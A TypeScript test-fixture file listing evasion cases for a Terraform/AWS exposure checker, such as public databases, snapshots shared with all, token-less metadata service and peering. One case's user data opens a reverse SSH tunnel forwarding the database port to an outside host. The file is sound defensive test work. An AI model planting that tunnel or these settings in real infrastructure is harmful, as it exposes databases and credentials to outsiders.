import type { EvasionFamily } from '../case';
import {
  anyone,
  db,
  dbSubnets,
  egress,
  evasionEgress,
  evasionIngress,
  group,
  id,
  ingress,
  instance,
  resource,
  tcp,
  template,
  vpc,
} from '../hcl';

const snapshot = (accounts: string): string =>
  resource(
    'aws_db_snapshot',
    'evasion',
    `  db_instance_identifier = ${db}.identifier\n  db_snapshot_identifier = "productos-api-shared"\n  shared_accounts = ${accounts}\n`,
  );

const tunnel: readonly [string, string] = [
  'systemctl start fastapi\\n',
  'systemctl start fastapi\\nssh -N -R 5432:db:5432 tunnel@198.51.100.9 &\\n',
];

const peering = resource(
  'aws_vpc_peering_connection',
  'evasion',
  '  vpc_id = aws_vpc.network_vpc.id\n  peer_vpc_id = "vpc-0aaaaaaaaaaaaaaaa"\n  peer_owner_id = "210987654321"\n',
);

const cluster = (more: string): string =>
  resource(
    'aws_rds_cluster',
    'evasion',
    `  cluster_identifier = "productos-api-cluster"
  engine = "aurora-postgresql"
  port = 5432
  storage_encrypted = true
  manage_master_user_password = true
  master_username = "productos"
  backup_retention_period = 7
  db_subnet_group_name = ${dbSubnets}.name
  vpc_security_group_ids = [${id('rds')}]
`,
  ) +
  resource(
    'aws_rds_cluster_instance',
    'evasion',
    `  cluster_identifier = aws_rds_cluster.evasion.cluster_identifier
  engine = "aurora-postgresql"
  instance_class = "db.t3.medium"
${more}`,
  );

const beside = instance('beside', '  vpc_security_group_ids = [aws_security_group.extra.id]\n');

const metadata = `  metadata_options {
    http_endpoint               = "enabled"
    http_put_response_hop_limit = 1
    http_tokens                 = "required"
  }
`;

/** Exposure that does not come from a rule of a security group. */
export const otherOpenings: EvasionFamily = {
  name: 'Other exposure',
  cases: [
    {
      id: 'other/public-database',
      sentence: 'the database has a public address',
      verdict: 'violating',
      replace: [['publicly_accessible                 = false', 'publicly_accessible = true']],
      denied: [['DB-001', db]],
    },
    {
      id: 'other/database-public-by-a-variable',
      sentence: 'the database has a public address, which a variable says as text',
      verdict: 'violating',
      replace: [['publicly_accessible                 = false', 'publicly_accessible = var.public']],
      add: 'variable "public" {\n  default = "true"\n}\n',
      denied: [['DB-001', db]],
    },
    {
      id: 'other/database-not-said-to-be-public',
      sentence: 'nothing is said about a public address of the database, so it has none',
      verdict: 'harmless',
      replace: [['  publicly_accessible                 = false\n', '']],
    },
    {
      id: 'other/public-cluster-member',
      sentence: 'an instance of a database cluster has a public address',
      verdict: 'violating',
      add: cluster('  publicly_accessible = true\n'),
      denied: [['DB-001', 'aws_rds_cluster_instance.evasion']],
    },
    {
      id: 'other/cluster-member',
      sentence: 'an instance of a database cluster has no public address',
      verdict: 'harmless',
      add: cluster('  publicly_accessible = false\n'),
    },
    {
      id: 'other/database-public-later',
      sentence: 'whether the database has a public address is known after apply only',
      verdict: 'undecided',
      replace: [
        ['publicly_accessible                 = false', `publicly_accessible = ${vpc}.dhcp_options_id == "dopt-1"`],
      ],
      undecided: [['DB-001', db]],
    },
    {
      id: 'other/database-in-public-subnets',
      sentence: 'the subnet group of the database holds a public subnet',
      verdict: 'violating',
      replace: [
        [
          'subnet_ids = [aws_subnet.network_private_us_east_1a.id, aws_subnet.network_private_us_east_1b.id]',
          'subnet_ids = [aws_subnet.network_private_us_east_1a.id, aws_subnet.network_public_us_east_1b.id]',
        ],
      ],
      denied: [['DB-002', dbSubnets]],
    },
    {
      id: 'other/private-subnets-with-a-way-out',
      sentence: 'the route table of the private subnets has a route to the internet gateway',
      verdict: 'violating',
      add: resource(
        'aws_route',
        'evasion',
        '  route_table_id = aws_route_table.network_private.id\n  destination_ipv6_cidr_block = "::/0"\n  gateway_id = aws_internet_gateway.network_internet.id\n',
      ),
      denied: [
        ['DB-002', dbSubnets],
        ['EC2-004', 'aws_autoscaling_group.web_fleet_group'],
      ],
    },
    {
      id: 'other/shared-snapshot',
      sentence: 'a snapshot of the database is shared with everybody',
      verdict: 'violating',
      add: snapshot('["all"]'),
      denied: [['DB-007', 'aws_db_snapshot.evasion']],
    },
    {
      id: 'other/shared-snapshot-among-others',
      sentence: 'a snapshot of the database is shared with an account and with everybody',
      verdict: 'violating',
      add: snapshot('["210987654321", "all"]'),
      denied: [['DB-007', 'aws_db_snapshot.evasion']],
    },
    {
      id: 'other/snapshot-for-one-account',
      sentence: 'a snapshot of the database is shared with one account',
      verdict: 'harmless',
      add: snapshot('["210987654321"]'),
    },
    {
      id: 'other/imdsv1',
      sentence: 'the launch template lets the metadata service answer without a token',
      verdict: 'violating',
      replace: [['http_tokens                 = "required"', 'http_tokens = "optional"']],
      denied: [['EC2-001', template]],
    },
    {
      id: 'other/imdsv1-by-silence',
      sentence: 'the launch template does not configure the metadata service',
      verdict: 'violating',
      replace: [[metadata, '']],
      denied: [['EC2-001', template]],
    },
    {
      id: 'other/imdsv1-of-an-instance',
      sentence: 'an instance beside the group lets the metadata service answer without a token',
      verdict: 'violating',
      add: (group('extra') + beside).replace('"required"', '"optional"'),
      denied: [['EC2-001', 'aws_instance.beside']],
    },
    {
      id: 'other/metadata-switched-off',
      sentence: 'the launch template switches the metadata service off',
      verdict: 'harmless',
      replace: [[metadata, '  metadata_options {\n    http_endpoint = "disabled"\n  }\n']],
    },
    {
      id: 'other/metadata-in-a-dynamic-block',
      sentence: 'the launch template asks for a token in a dynamic block',
      verdict: 'harmless',
      replace: [
        [
          metadata,
          '  dynamic "metadata_options" {\n    for_each = ["required"]\n    content {\n      http_tokens = metadata_options.value\n    }\n  }\n',
        ],
      ],
    },
    {
      id: 'other/tunnel',
      sentence: 'user data opens a tunnel, and the instances may send SSH to the Internet',
      verdict: 'violating',
      replace: [tunnel],
      add: egress(id('ec2'), `${tcp(22)}${anyone}`),
      denied: [['NET-001', evasionEgress]],
    },
    {
      id: 'other/tunnel-to-one-address',
      sentence: 'user data opens a tunnel, and the instances may send to the one address where it ends',
      verdict: 'violating',
      replace: [tunnel],
      add: egress(id('ec2'), `${tcp(22)}  cidr_ipv4 = "198.51.100.9/32"\n`),
      denied: [['NET-001', evasionEgress]],
    },
    {
      id: 'other/tunnel-that-nothing-lets-out',
      sentence: 'user data asks for a tunnel that no group lets out',
      verdict: 'harmless',
      replace: [tunnel],
    },
    {
      id: 'other/peering',
      sentence: 'another VPC is peered, and the database admits its range',
      verdict: 'violating',
      add: peering + ingress(id('rds'), `${tcp(5432)}  cidr_ipv4 = "172.30.0.0/16"\n`),
      denied: [['NET-001', evasionIngress]],
    },
    {
      id: 'other/peering-that-nothing-lets-in',
      sentence: 'another VPC is peered, and no group lets it in',
      verdict: 'harmless',
      add: peering,
    },
    {
      id: 'other/public-address-by-the-subnet',
      sentence: 'the private subnets of the instances give public addresses',
      verdict: 'violating',
      replace: [
        [
          'cidr_block              = "10.20.10.0/24"\n  map_public_ip_on_launch = false',
          'cidr_block = "10.20.10.0/24"\n  map_public_ip_on_launch = true',
        ],
      ],
      denied: [['EC2-003', 'aws_subnet.network_private_us_east_1a']],
    },
    {
      id: 'other/elastic-ip',
      sentence: 'an Elastic IP is attached to an instance',
      verdict: 'violating',
      add: group('extra') + beside + resource('aws_eip', 'evasion', '  instance = aws_instance.beside.id\n'),
      denied: [['EC2-003', 'aws_eip.evasion']],
    },
  ],
};
